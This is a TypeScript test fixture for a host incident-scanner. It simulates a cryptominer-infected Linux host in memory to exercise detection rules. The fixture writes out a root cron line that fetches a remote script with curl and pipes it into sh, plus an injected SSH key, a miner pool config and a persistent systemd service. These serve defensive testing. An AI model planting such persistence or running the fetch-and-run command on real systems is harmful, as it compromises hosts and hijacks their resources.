import { join } from 'node:path'
import { collectFacts, linuxCollectors } from '../../../collectors/index.ts'
import { compileRules, createStream, loadRuleFiles, viewsOfFact } from '../../../detect/index.ts'
import {
  assess,
  countFacts,
  type Detect,
  type EarlierIncident,
  type JudgingRule,
  planned,
  ruleMeaning,
} from '../../../engine/index.ts'
import { type Fact, type IdentifiedFact, levels, type Plan, type Scan } from '../../../model/index.ts'
import { type MemoryFile, memoryTarget } from '../../../target/index.ts'

export interface RealScan {
  readonly scan: Scan
  readonly plans: { readonly incident: string; readonly handling: 'in-depth'; readonly plan: Plan }[]
  readonly facts: readonly IdentifiedFact[]
}

/** Contents, or files with a mode of their own. */
type HostFiles = Readonly<Record<string, string | MemoryFile>>

const wallet = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'
const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx9mMGYxEJ2DavylampTestKeyOfNobodyAAAAAAAAAA root@nowhere'

/** A small clean host. */
export const cleanHost: HostFiles = {
  '/etc/passwd': 'root:x:0:0:root:/root:/bin/bash\ndeploy:x:1000:1000::/home/deploy:/bin/bash\n',
  '/etc/shadow': 'root:*:19000:0:99999:7:::\ndeploy:*:19000:0:99999:7:::\n',
  '/etc/group': 'root:x:0:\ndeploy:x:1000:\n',
  '/etc/debian_version': '12\n',
}

/** The same with the traces of a miner: text in memory, nothing that runs. */
export function infectedHost(name = '.x'): HostFiles {
  const pools = [{ algo: 'rx/0', url: 'pool.example:3333', user: wallet, pass: 'x', 'rig-id': 'a', keepalive: true }]
  const config = {
    autosave: true,
    cpu: { enabled: true, 'huge-pages': true },
    'donate-level': 1,
    randomx: { mode: 'auto' },
    pools,
  }
  return {
    ...cleanHost,
    '/var/spool/cron/crontabs/root': '*/5 * * * * curl -fsSL http://198.51.100.7/unk.sh | sh\n',
    '/root/.ssh/authorized_keys': `${key}\n`,
    [`/var/tmp/${name}/config.json`]: JSON.stringify(config),
    [`/var/tmp/${name}/xm`]: {
      content:
        '#!/bin/sh\nwhile true; do sleep 1; done\n# stratum+tcp://pool.example:3333 --donate-level randomx rx/0\n',
      mode: 0o755,
    },
    '/etc/systemd/system/xm.service': `[Unit]\nDescription=x\n[Service]\nExecStart=/var/tmp/${name}/xm -c /var/tmp/${name}/config.json\nRestart=always\n[Install]\nWantedBy=multi-user.target\n`,
  }
}

/** Our own collectors, rules and engine over a host in memory. */
export async function realScan(
  files: HostFiles,
  { earlier = [], now = '2026-06-01T00:00:00Z' }: { earlier?: readonly EarlierIncident[]; now?: string } = {},
): Promise<RealScan> {
  const target = memoryTarget({ files: files as Record<string, MemoryFile>, live: false, now })
  const { facts } = await collectFacts(target, linuxCollectors)
  const assessment = assess({
    facts,
    gaps: [],
    live: false,
    detect: detector(),
    allow: [],
    earlier,
    protectedPids: new Set(),
    ownPaths: [],
    now,
  })
  const identified = [...assessment.world.facts]
  const plans = assessment.incidents
    .filter(one => one.verdict !== 'exposure')
    .map(one => {
      const only = { ...assessment, incidents: [one] }
      const options = { root: '/', live: false, reinstall: false, blockSeconds: 86_400 }
      return { incident: one.id, handling: 'in-depth' as const, plan: planned(only, [one.verdict], options) }
    })
  const scan: Scan = {
    format: 'davylamp-scan',
    version: 1,
    program: 'davylamp 0.1.0',
    target: { root: '/', live: false, hostname: 'web-1' },
    mode: 'quick',
    startedAt: now,
    durationMs: 1_500,
    rules: { count: rules().size, version: 'test' },
    facts: countFacts(identified),
    verdict: assessment.verdict,
    gaps: [],
    findings: assessment.judged.map(one => one.finding),
    incidents: [...assessment.incidents],
  }
  return { scan, plans, facts: identified }
}

const compiled = (() => {
  const files = loadRuleFiles([join(import.meta.dirname, '..', '..', '..', 'rules')])
  return compileRules(files.rules)
})()

let known: ReadonlyMap<string, JudgingRule> | undefined

function rules(): ReadonlyMap<string, JudgingRule> {
  if (known !== undefined) return known
  const meanings = new Map<string, JudgingRule>()
  for (const { id, title, tags, level, custom } of [...compiled.rules, ...compiled.correlations]) {
    const meaning = ruleMeaning.safeParse(custom)
    if (!meaning.success) continue
    meanings.set(id, { id, title, tags, level: levels.find(one => one === level) ?? 'medium', meaning: meaning.data })
  }
  known = meanings
  return meanings
}

function detector(): Detect {
  const stream = createStream(compiled)
  return event =>
    stream
      .push(viewsOfFact(event as unknown as Fact, event))
      .map(match => rules().get(match.rule.id))
      .filter(rule => rule !== undefined)
}
